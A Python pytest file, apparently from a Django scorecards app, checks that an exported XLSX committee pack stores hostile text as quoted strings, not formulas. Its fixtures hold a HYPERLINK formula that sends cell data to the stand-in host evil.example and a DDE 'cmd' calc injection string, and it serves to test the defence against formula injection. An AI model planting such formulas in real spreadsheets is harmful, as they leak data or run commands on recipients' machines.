"""The committee pack's XLSX holds no formula: a hostile description or period label is quoted text,
a negative figure a number (issue 12, finding 1; the rule is perfsite.spreadsheet)."""

import io

import openpyxl
import pytest

from scorecards.pack_xlsx import render_xlsx
from scorecards.packs import pack_meta
from scorecards.publishing import publish
from tests.scorecards.conftest import Q4, add_value, make_indicator

pytestmark = pytest.mark.django_db

HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_PERIOD = "-2+3+cmd|' /C calc'!A0"


def test_the_pack_xlsx_has_no_formula_and_keeps_negative_numbers(small_scorecard, officer):
    hostile = make_indicator("EVIL 1", description=HOSTILE_DESCRIPTION, kind="tracker", unit="number", ref=130)
    add_value(hostile, "actual", str(Q4.start), str(Q4.end), "-4.5", HOSTILE_PERIOD)
    published = publish(quarter=Q4, user=officer)

    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(published.snapshot, pack_meta(published))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "@", "\t", "\r", "-"))]
    assert any(text.startswith("'" + HOSTILE_DESCRIPTION) for text in texts)
    assert "'" + HOSTILE_PERIOD in texts
    indicators = book["Indicators"]
    evil = next(row for row in indicators.iter_rows(values_only=True) if row[2] == "EVIL 1")
    assert -4.5 in evil
